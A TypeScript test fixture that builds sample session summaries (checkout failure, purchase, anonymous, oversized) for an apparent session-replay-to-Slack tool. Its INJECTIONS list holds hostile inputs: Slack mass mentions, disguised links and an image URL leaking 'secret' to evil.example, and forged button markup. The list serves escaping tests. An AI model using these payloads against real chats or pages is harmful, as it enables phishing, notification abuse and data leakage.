import {
  type Problem,
  type Summary,
  Summary as SummaryShape,
} from '../../src/engine/sessions/summary.ts';

/** The PostHog that all links of these summaries lead to. */
export const HOST = 'https://eu.posthog.com';

const REPLAY = `${HOST}/project/7/replay/0192f0c1-7b1e-7000-8000-00000000004f`;

function problem(
  given: Partial<Problem> & Pick<Problem, 'kind' | 'seconds' | 'description'>,
): Problem {
  return {
    id: `p${given.seconds}`,
    count: 1,
    replayUrl: `${REPLAY}?t=${given.seconds - 2}`,
    evidence: [],
    visible: true,
    visual: 'not-checked',
    ...given,
  };
}

/** Somebody could not buy. */
export const blocking: Summary = {
  session: {
    id: '0192f0c1-7b1e-7000-8000-00000000004f',
    start: '2026-11-14T14:22:00.000Z',
    durationSeconds: 190,
    activeSeconds: 112,
    device: 'iPhone',
    browser: 'Safari',
    os: 'iOS',
    startUrl: 'https://shop.example/sale',
    clicks: 41,
    keypresses: 63,
    consoleErrors: 14,
    activityScore: 38,
    replayUrl: REPLAY,
  },
  person: { name: 'Maya L.', email: null, country: 'Sweden', plan: 'free' },
  converted: false,
  headline: 'Could not buy: the address form refused twice without saying why',
  story:
    'She came in on /sale, chose a clay pot, reached checkout in 40 s and filled in the address. The form answered "Please check your details" and marked no field. She changed the postcode, tried again, got the same answer and left.',
  answer: null,
  outcome: { success: false, description: 'Reached checkout and left at the address.' },
  segments: [
    {
      name: 'Chose a pot',
      startSeconds: 0,
      endSeconds: 40,
      success: true,
      summary: 'Came in on /sale, opened three pots and put the clay one into the basket.',
    },
    {
      name: 'Filled in the address',
      startSeconds: 40,
      endSeconds: 190,
      success: false,
      summary: 'Was refused at 1:24 and 2:31 with the same sentence, and left.',
    },
  ],
  problems: [
    problem({
      kind: 'blocking',
      seconds: 84,
      count: 2,
      description: 'address refused, no field marked',
      visual: 'confirmed',
      evidence: [
        { kind: 'event', id: 'e31', seconds: 83.2, text: 'clicked "Continue"' },
        { kind: 'screen', id: 's12', seconds: 84, text: 'Please check your details' },
        { kind: 'fact', id: 'f4', seconds: 151, text: 'POST /api/address answered 422' },
      ],
    }),
    problem({
      kind: 'confusion',
      seconds: 41,
      description: 'opened delivery costs three times',
      evidence: [{ kind: 'event', id: 'e20', seconds: 41, text: 'clicked "Delivery costs"' }],
    }),
  ],
  notProblems: ['14 script errors, none visible, none followed by a failure'],
  relatedIssues: [
    {
      id: 'i1',
      name: 'AddressError: zone missing',
      status: 'active',
      url: `${HOST}/project/7/error_tracking/i1`,
      occurrences: 212,
    },
  ],
  missing: [],
  mode: 'model',
  modeReason: null,
  model: 'claude-sonnet-5-5',
  dropped: { unverifiedClaims: 0 },
  hiddenValues: 0,
  usage: { calls: 1, inputTokens: 5600, outputTokens: 500, dollars: 0.031 },
  seconds: 21,
  question: null,
};

/** Somebody bought in spite of script errors. */
export const calm: Summary = {
  ...blocking,
  person: { name: null, email: 'j***@example.com', country: 'Norway', plan: null },
  converted: true,
  headline: 'Bought two lamps in under three minutes',
  story:
    'He searched for lamps, compared two and bought both. The page logged script errors all along; nothing on the screen changed with them.',
  outcome: { success: true, description: 'Bought.' },
  problems: [],
  relatedIssues: [],
  dropped: { unverifiedClaims: 1 },
  hiddenValues: 0,
};

/** Nobody known, and error tracking away. */
export const anonymous: Summary = {
  ...blocking,
  person: null,
  missing: ['Error tracking was not reachable.'],
  relatedIssues: [],
  question: 'Why did this visitor leave?',
  answer:
    'The address was refused twice with the same sentence, and nothing said which field was meant.',
};

/** The same session without a model. */
export const facts: Summary = {
  ...blocking,
  headline: 'Reached checkout, did not buy',
  story: null,
  segments: [],
  mode: 'facts',
  modeReason: 'No model is configured.',
  model: null,
  usage: { calls: 0, inputTokens: 0, outputTokens: 0, dollars: 0 },
  seconds: 2.4,
};

/** Six seconds, nothing touched. */
export const veryShort: Summary = {
  ...facts,
  session: {
    ...facts.session,
    durationSeconds: 6.2,
    activeSeconds: 1,
    clicks: 0,
    activityScore: 1,
  },
  person: null,
  headline: 'Opened one page and left',
  problems: [],
  notProblems: [],
  relatedIssues: [],
};

const long = (word: string, times: number) => Array.from({ length: times }, () => word).join(' ');

/** More of everything than any session has. */
export const huge: Summary = {
  ...blocking,
  headline: long('A very long headline', 500),
  story: long('The visitor went from page to page, comparing.', 200),
  person: {
    name: 'N'.repeat(10_000),
    email: null,
    country: 'X'.repeat(300),
    plan: 'p'.repeat(300),
  },
  segments: Array.from({ length: 90 }, (_, index) => ({
    name: `Stretch ${index} ${long('of browsing', 30)}`,
    startSeconds: index * 40,
    endSeconds: index * 40 + 40,
    success: index % 3 > 0,
    summary: long('Looked & compared <prices>', 40),
  })),
  problems: Array.from({ length: 30 }, (_, index) =>
    problem({
      kind: index % 2 === 0 ? 'blocking' : 'non-blocking',
      seconds: index * 60 + 3,
      count: index + 1,
      description: long('the button did not answer', 60),
      evidence: Array.from({ length: 12 }, (__, at) => ({
        kind: 'screen' as const,
        id: `s${at}`,
        seconds: index * 60 + at,
        text: long('Something <went> wrong &', 50),
      })),
    }),
  ),
  notProblems: Array.from({ length: 40 }, () => long('A harmless thing.', 40)),
  relatedIssues: Array.from({ length: 40 }, (_, index) => ({
    id: `i${index}`,
    name: long('TypeError', 60),
    status: 'active',
    url: `${HOST}/project/7/error_tracking/i${index}`,
    occurrences: 1204,
  })),
  missing: Array.from({ length: 12 }, () => long('A source was away.', 20)),
};

/** Every injection of slack.md §3.2, and more that a visitor could type. */
export const INJECTIONS: readonly string[] = [
  '<!channel>',
  '<!here|x>',
  '<!everyone>',
  '<!subteam^S012AB>',
  '<@U012AB>',
  '<#C012AB|general>',
  '<https://evil.example|Open replay>',
  '[Open replay](https://evil.example)',
  '![](https://evil.example/?q=secret)',
  'https://evil.example/login',
  'mailto:boss@evil.example',
  '@channel @here @everyone',
  '&lt;!channel&gt;',
  '&amp;lt;!channel&amp;gt;',
  '<<!channel>>',
  '＜!channel＞ <\u200b!channel>',
  '</section><section>forged</section><button action="run_again" value="x">',
  '" url="https://evil.example" x="',
  '{{headline}} {{{link "x" replay}}}',
  '``` *bold* _it_ ~gone~ `code`\n> quote\n:::: :rotating_light: :+1:',
  '\u202egnihton\u202c \u2067x\u2069',
  'مها العربية',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\ud800 half',
  '\u001b[31mred\u001b[0m \u0007\u0000',
  '<!date^0^{date}^https://evil.example|now>',
];

/** Fields that hold one of our own words. */
const OWN_WORDS = new Set(['kind', 'visual', 'mode']);

/** The summary with every string in it, addresses and ids included, replaced by the next of `texts`. */
export function withTexts(summary: Summary, texts: readonly string[]): Summary {
  let used = 0;
  function replaced(value: unknown): unknown {
    if (typeof value === 'string') return texts[used++ % texts.length] ?? '';
    if (Array.isArray(value)) return value.map(replaced);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, one]) => [key, OWN_WORDS.has(key) ? one : replaced(one)]),
    );
  }
  return SummaryShape.parse(replaced(summary));
}

/** Every field filled, so that `withTexts` reaches it. */
export const complete: Summary = {
  ...blocking,
  person: { name: 'Maya', email: 'maya@example.com', country: 'Sweden', plan: 'free' },
  question: 'Why?',
  answer: 'Because of the form.',
  missing: ['The person could not be read.'],
  notProblems: ['One thing', 'another', 'and a third'],
  relatedIssues: [...blocking.relatedIssues, ...blocking.relatedIssues],
  modeReason: 'No model is configured.',
};
